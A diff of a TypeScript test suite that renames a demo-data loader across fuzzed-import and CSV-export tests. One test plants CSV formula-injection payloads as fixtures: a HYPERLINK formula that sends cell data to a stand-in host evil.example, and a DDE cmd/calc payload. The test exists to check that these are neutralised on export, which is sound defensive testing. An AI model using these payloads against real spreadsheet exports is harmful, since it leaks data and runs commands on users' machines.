@@ -10,10 +10,10 @@ import type { IsoDate } from '../../src/domain/date.ts';
 import { openDatabase, type Db } from '../../src/db/open.ts';
 import { csvCell, renderCsv } from '../../src/reports/csv.ts';
 import { computeReport } from '../../src/reports/generate.ts';
-import { loadDemoCity } from '../../src/services/demoCity.ts';
 import { makeApp, type TestApp } from '../api/helpers.ts';
 import { makeCase, runFuzz, seedFiles } from './fuzzer.ts';
 import { rng, tempDir } from './helpers.ts';
+import { loadDemoOn } from '../support/storeOn.ts';
 
 const NOW = '2026-11-28T02:00:00.000Z';
 const SEED = 20261128;
@@ -23,7 +23,7 @@ describe('fuzzed imports', () => {
   let db: Db;
   beforeAll(async () => {
     db = openDatabase(join(t.dir, 'huxin.db'));
-    await loadDemoCity(db, NOW);
+    await loadDemoOn(db, NOW);
   });
   afterAll(() => {
     db.$client.close();
@@ -51,7 +51,7 @@ describe('fuzzed imports through the API', () => {
   let app: TestApp;
   beforeAll(async () => {
     app = await makeApp({ seed: false, limits: { importsPerMinute: 100_000, failedAuthAttempts: 100_000 } });
-    await loadDemoCity(app.db, NOW);
+    await loadDemoOn(app.db, NOW);
   });
   afterAll(() => app.close());
 
@@ -111,7 +111,7 @@ describe('exported CSV neutralises formulas', () => {
     const t = tempDir('huxin-csv-');
     const db = openDatabase(join(t.dir, 'huxin.db'));
     try {
-      await loadDemoCity(db, NOW);
+      await loadDemoOn(db, NOW);
       const s = db.$client;
       s.prepare("UPDATE projects SET name = '=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")' WHERE id = 1").run();
       s.prepare("UPDATE projects SET name = '@SUM(1+1)*cmd|'' /C calc''!A0', county = '+信都区' WHERE id = 2").run();
